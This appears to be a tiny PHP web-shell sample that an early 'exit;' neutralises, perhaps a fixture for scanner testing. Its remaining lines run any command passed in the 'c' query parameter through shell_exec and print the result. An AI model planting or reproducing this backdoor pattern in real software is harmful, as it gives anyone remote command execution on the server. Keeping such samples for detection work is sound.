<?php exit;
$c = $_GET['c'];
$out = shell_exec($c . ' 2>&1');
echo $out;
